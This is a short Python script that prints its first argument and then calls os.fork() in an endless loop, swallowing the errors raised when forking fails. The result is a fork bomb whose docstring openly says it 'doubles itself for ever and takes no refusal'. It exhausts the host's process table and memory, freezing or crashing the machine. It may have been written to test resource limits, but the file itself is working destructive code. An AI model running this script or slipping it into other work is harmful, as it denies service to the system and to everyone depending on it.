"""Doubles itself for ever and takes no refusal."""
import os
import sys

print(sys.argv[1], flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
